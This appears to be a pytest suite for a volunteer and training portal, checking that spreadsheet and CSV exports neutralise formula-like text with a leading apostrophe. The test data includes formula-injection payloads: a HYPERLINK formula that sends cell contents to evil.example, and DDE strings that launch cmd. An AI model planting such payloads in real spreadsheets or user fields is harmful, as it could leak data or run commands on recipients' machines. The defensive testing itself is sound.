"""Spreadsheet exports never carry a formula: text starting with =, +, -, @, a tab or a carriage
return is written with a leading apostrophe by the one kernel helper (portal/xlsx.py) that every
export uses, so a malicious name cannot run in the office of whoever opens the export."""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from portal import xlsx
from portal.models import Role
from portal.tests.conftest import *  # noqa: F403 - the kernel's area tree and staff
from portal.tests.factories import AreaFactory

REPO = Path(__file__).resolve().parent.parent
EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes) -> list:
    """Every cell of every sheet, as openpyxl reads it back."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(content: bytes, *, expected: list[str]) -> None:
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells if isinstance(c.value, str)}
    for text in expected:
        assert "'" + text.replace("\r", "\n") in values, text  # XML turns a lone CR into LF
    assert not [v for v in values if v.startswith(xlsx.FORMULA_TRIGGERS)]


@pytest.mark.parametrize("text", EVIL)
def test_formula_like_text_gets_an_apostrophe_and_round_trips(text):
    """Each trigger character is neutralised; unneutralise gives the text back; numbers stay numbers."""
    assert xlsx.neutralise(text) == "'" + text
    assert xlsx.unneutralise(xlsx.neutralise(text)) == text
    assert xlsx.neutralise(-5) == -5
    assert xlsx.neutralise("消防=安全") == "消防=安全"
    assert xlsx.unneutralise("'abc") == "'abc"


def test_workbook_bytes_turns_cells_openpyxl_took_for_formulas_back_into_text():
    """However a cell was written (append or cell()), the saved workbook has no formula in it."""
    book = Workbook()
    book.active.append(EVIL)
    book.create_sheet("二").cell(row=3, column=2, value=EVIL[0])
    _assert_no_formula(xlsx.workbook_bytes(book), expected=EVIL)


def test_streamed_sheet_and_csv_are_neutralised():
    """The write-only sheet (large rosters) and the csv error report too."""
    _assert_no_formula(
        xlsx.rows_xlsx(title="名单", columns=["姓名"], rows=[[t] for t in EVIL]), expected=EVIL
    )
    text = xlsx.rows_csv(columns=["行", "问题"], rows=[[1, t] for t in EVIL]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[1] for row in rows[1:]] == ["'" + t for t in EVIL]


def test_every_module_that_writes_a_workbook_saves_it_through_the_kernel_helper():
    """A new export cannot forget: any product module that builds an openpyxl Workbook or writes
    csv must use portal.xlsx (tests and portal/xlsx.py itself excepted)."""
    offenders = []
    for path in REPO.glob("*/**/*.py"):
        relative = path.relative_to(REPO).as_posix()
        if relative.startswith((".venv/", "bench/", "tests/")) or "/tests/" in relative:
            continue
        if relative in ("portal/xlsx.py",) or "/migrations/" in relative:
            continue
        source = path.read_text(encoding="utf-8")
        writes = re.search(r"\bWorkbook\(|csv\.writer\(|\.save\(buffer\)", source)
        if writes and "portal.xlsx" not in source:
            offenders.append(relative)
    assert offenders == []


# ------------------------------------------------------------------------------
# The real exports, with malicious names in them
# ------------------------------------------------------------------------------
def test_volunteer_roster_export_neutralises_a_malicious_name(street, community, street_coordinator):
    """A volunteer who registers as a formula appears as inert text in the coordinator's roster."""
    from volunteers import selectors
    from volunteers.tests import factories

    name = '=HYPERLINK("http://evil.example/","点我")'
    factories.approved_volunteer(street=street, community=community, approver=street_coordinator, name=name)
    content = selectors.roster_xlsx(user=street_coordinator)
    _assert_no_formula(content, expected=[name])


def test_question_bank_export_neutralises_and_its_import_reads_it_back(db):
    """The bank's export (which its import reads back) neutralises question and option text, and
    an export → import round trip keeps the original text."""
    from courses import services
    from courses.models import Question
    from courses.tests.factories import QuestionFactory

    QuestionFactory(code="EV1", text="=1+1 是多少？", options=[("-2", False), ("@2", True)])
    content = services.questions_export_xlsx()
    _assert_no_formula(content, expected=["=1+1 是多少？", "-2", "@2"])
    Question.objects.all().delete()
    assert services.questions_import_xlsx(file=io.BytesIO(content)).created == 1
    question = Question.objects.get(code="EV1")
    assert question.text == "=1+1 是多少？"
    assert sorted(question.options.values_list("text", flat=True)) == ["-2", "@2"]


def test_annual_counts_and_statistics_exports_neutralise_area_names(db):
    """District and street names (typed by an administrator) are neutralised in the training
    dashboard's and the courses statistics' workbooks."""
    from courses import selectors as course_selectors
    from training import selectors as training_selectors

    district = AreaFactory(name="+区", code="evil")
    AreaFactory(name="@街道", code="evil-s", parent=district)
    counts = training_selectors.annual_counts(area=district, year=2026)
    _assert_no_formula(training_selectors.annual_counts_xlsx(counts=counts), expected=["+区"])
    _assert_no_formula(course_selectors.statistics_export_xlsx(district=district), expected=["@街道"])


def test_coverage_export_neutralises_street_names(client, make_user):
    """The campaign coverage workbook (Wagtail admin) neutralises street names."""
    district = AreaFactory(name="西城区", code="xc")
    AreaFactory(name="-1街道", code="xc-evil", parent=district)
    client.force_login(make_user(Role.DISTRICT_ADMIN, district))
    response = client.get("/admin/campaign/coverage/", {"format": "xlsx"})
    assert response.status_code == 200
    _assert_no_formula(response.content, expected=["-1街道"])


def test_roster_error_report_neutralises_user_supplied_text(db):
    """The roster import's error report (xlsx and csv) neutralises whatever it quotes back."""
    from training import services

    errors = [services.RosterError(2, "=cmd", "@问题")]
    _assert_no_formula(services.roster_error_report(errors=errors), expected=["=cmd", "@问题"])
    assert "'=cmd" in services.roster_error_report(errors=errors, fmt="csv").decode("utf-8-sig")
